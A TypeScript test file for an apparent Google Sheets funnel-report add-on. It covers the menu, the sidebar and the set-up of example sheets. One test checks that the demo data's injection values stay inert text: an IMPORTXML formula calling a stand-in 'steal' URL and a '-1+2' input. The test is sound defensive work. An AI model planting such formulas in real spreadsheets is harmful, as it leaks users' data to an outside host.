/** The menu, the sidebar and "Set up example sheets", driven through the app functions on fakes. */
import { SAMPLE_CONFIG, SAMPLE_HEADERS, sampleLeadRows } from '../../src/core/sample-data';
import { SAMPLE_SPEND_CONFIG } from '../../src/core/spend/sample';
import { openMenu, openSidebar, runSetUpExampleSheets } from '../../src/sheets/app';
import { CONFIG_KEY, LEADS_SHEET_KEY } from '../../src/sheets/settings-store';
import { createFakeServices } from '../fakes/services';
import { SAMPLE_NOW, SAMPLE_TODAY } from '../fakes/sample-leads';

const EN_MENU = [
  { caption: 'Refresh reports', functionName: 'refreshReports' },
  { caption: 'Set up example sheets', functionName: 'setUpExampleSheets' },
  { caption: 'Add Spend sheet', functionName: 'addSpendSheet' },
  'separator',
  { caption: 'Open sidebar', functionName: 'showSidebar' },
];

describe('onOpen', () => {
  test('in AuthMode.NONE it builds the static menu without touching the document or its properties', () => {
    const w = createFakeServices({ authMode: 'NONE' });
    openMenu({ authMode: 'NONE' }, w.services);
    expect(w.app.ui.menus).toEqual([EN_MENU]);
    expect(w.app.calls.snapshot()).toEqual({ 'Menu.addToUi': 1, 'SpreadsheetApp.getUi': 1, 'Ui.createAddonMenu': 1 });
    expect(w.properties.calls.total).toBe(0);
    expect(w.lock.calls.total).toBe(0);
  });

  test('in AuthMode.FULL the menu is the same and still reads nothing', () => {
    const w = createFakeServices({ authMode: 'FULL' });
    w.app.spreadsheet.addSheet('Leads', [['Lead ID']]);
    openMenu({ authMode: 'FULL' }, w.services);
    expect(w.app.ui.menus).toEqual([EN_MENU]);
    expect(w.app.calls.count('SpreadsheetApp.getActiveSpreadsheet')).toBe(0);
    expect(w.properties.calls.total).toBe(0);
  });

  test('Russian users get a Russian menu; an unreadable locale falls back to English', () => {
    const ru = createFakeServices({ locale: 'ru' });
    openMenu({}, ru.services);
    expect(ru.app.ui.menus[0]).toEqual([
      { caption: 'Обновить отчёты', functionName: 'refreshReports' },
      { caption: 'Создать листы-примеры', functionName: 'setUpExampleSheets' },
      { caption: 'Добавить лист расходов', functionName: 'addSpendSheet' },
      'separator',
      { caption: 'Открыть боковую панель', functionName: 'showSidebar' },
    ]);
    const broken = createFakeServices();
    broken.session.getActiveUserLocale = () => {
      throw new Error('Session is not available in this mode');
    };
    openMenu({}, broken.services);
    expect(broken.app.ui.menus[0]).toEqual(EN_MENU);
  });
});

test('showSidebar opens sidebar.html with a title', () => {
  const w = createFakeServices();
  openSidebar(w.services);
  expect(w.app.ui.sidebars.map((s) => [s.file, s.title])).toEqual([['sidebar', 'Funnel report']]);
});

describe('setUpExampleSheets', () => {
  const run = (w: ReturnType<typeof createFakeServices>) => runSetUpExampleSheets(w.services, { now: () => SAMPLE_NOW });

  test('creates a Leads sheet with the CLI demo data as real dates and plain text, saves settings, and shows the report', () => {
    const w = createFakeServices({ timeZone: 'Europe/Moscow' });
    const out = run(w);
    expect(out.kind).toBe('done');
    const ss = w.app.spreadsheet;
    expect(ss.sheets.map((s) => s.name)).toEqual(['Leads', 'Spend', 'Cohorts', 'Conversions', 'Channels', 'Data issues']);

    const demo = sampleLeadRows({ today: SAMPLE_TODAY });
    const leads = ss.sheet('Leads');
    const v = leads.peekValues();
    expect(v).toHaveLength(demo.length);
    expect(v[0]).toEqual([...SAMPLE_HEADERS]);
    // Moscow is UTC+3: a wall time 'YYYY-MM-DD HH:MM' is that UTC time minus three hours.
    const created = String(demo[1][1]);
    const [d, t] = created.split(' ');
    expect(v[1][1]).toEqual(new Date(Date.parse(`${d}T${t}:00Z`) - 3 * 3_600_000));
    expect(v[1][0]).toBe(demo[1][0]);
    expect(leads.format(2, 2).numberFormat).toBe('yyyy-mm-dd hh:mm');
    expect(leads.frozenRows).toBe(1);
    // The demo's hostile values stay text.
    expect(leads.formulaCount()).toBe(0);
    expect(v.some((r) => r[2] === '=IMPORTXML("https://example.com/steal","//a")')).toBe(true);
    expect(v.some((r) => r[5] === '-1+2')).toBe(true);
    // The sample has amounts and lost reasons: the Cohorts tab shows money and losses beside the funnel.
    expect(ss.sheet('Cohorts').peekValues()[2]).toEqual(expect.arrayContaining(['Won revenue', 'Average deal', 'Lost', 'Top lost reasons']));

    expect(w.properties.document.store.get(LEADS_SHEET_KEY)).toBe('Leads');
    expect(JSON.parse(w.properties.document.store.get(CONFIG_KEY)!)).toEqual({ ...SAMPLE_CONFIG, timeZone: 'Europe/Moscow', locale: 'en', spend: SAMPLE_SPEND_CONFIG });
    expect(ss.active?.name).toBe('Cohorts');
  });

  test('works in a spreadsheet whose zone is the custom offset GMT-07:00 and saves that zone', () => {
    const w = createFakeServices({ timeZone: 'GMT-07:00' });
    const out = run(w);
    expect(out.kind).toBe('done');
    expect(w.app.ui.alerts).toEqual([]);
    expect(JSON.parse(w.properties.document.store.get(CONFIG_KEY)!).timeZone).toBe('GMT-07:00');
    // A wall time 'YYYY-MM-DD HH:MM' of the demo is that UTC time plus seven hours.
    const demo = sampleLeadRows({ today: SAMPLE_TODAY });
    const [d, t] = String(demo[1][1]).split(' ');
    expect(w.app.spreadsheet.sheet('Leads').peek(2, 2)).toEqual(new Date(Date.parse(`${d}T${t}:00Z`) + 7 * 3_600_000));
  });

  test('the Data issues tab lists the demo’s deliberate problems at their rows', () => {
    const w = createFakeServices({ timeZone: 'Europe/Moscow' });
    run(w);
    const issues = w.app.spreadsheet.sheet('Data issues').peekValues();
    const cellsWith = (value: string) => issues.filter((r) => r[2] === value).map((r) => r[0]);
    // 1500 leads: the spoiled lead at fraction f is rows[1 + floor(1500 f)], i.e. sheet row 2 + floor(1500 f).
    // The sample's columns: Created at is B, Amount G, Qualified at I.
    expect(cellsWith('sometime in May')).toEqual([`Leads!B${2 + Math.floor(1500 * 0.11)}`]);
    expect(cellsWith('yesterday')).toEqual([`Leads!I${2 + Math.floor(1500 * 0.74)}`]);
    expect(cellsWith('TBD')).toEqual([`Leads!G${2 + Math.floor(1500 * 0.41)}`]);
  });

  test('running it again replaces its own example instead of adding sheets', () => {
    const w = createFakeServices();
    run(w);
    run(w);
    expect(w.app.spreadsheet.sheets.map((s) => s.name)).toEqual(['Leads', 'Spend', 'Cohorts', 'Conversions', 'Channels', 'Data issues']);
  });

  test("a person's own Leads sheet is kept; the example goes to Leads (funnel) and the settings point there", () => {
    const w = createFakeServices();
    w.app.spreadsheet.addSheet('Leads', [['my', 'data']]);
    expect(run(w).kind).toBe('done');
    expect(w.app.spreadsheet.sheet('Leads').peekValues()).toEqual([['my', 'data']]);
    expect(w.app.spreadsheet.sheet('Leads (funnel)').peek(1, 2)).toBe('Created at');
    expect(w.properties.document.store.get(LEADS_SHEET_KEY)).toBe('Leads (funnel)');
  });

  test('when both names are taken by a person, nothing is created and the message says why', () => {
    const w = createFakeServices();
    w.app.spreadsheet.addSheet('Leads', [['a']]);
    w.app.spreadsheet.addSheet('Leads (funnel)', [['b']]);
    const out = run(w);
    expect(out.kind).toBe('failed');
    expect(w.app.ui.alerts[0]).toContain('"Leads" and "Leads (funnel)" already exist');
    expect(w.app.spreadsheet.sheets).toHaveLength(2);
    expect(w.properties.document.store.size).toBe(0);
  });

  test('refused while a refresh holds the lock', () => {
    const w = createFakeServices();
    w.lock.state.holdByAnotherExecution();
    expect(run(w).kind).toBe('busy');
    expect(w.app.spreadsheet.sheets).toHaveLength(0);
  });
});
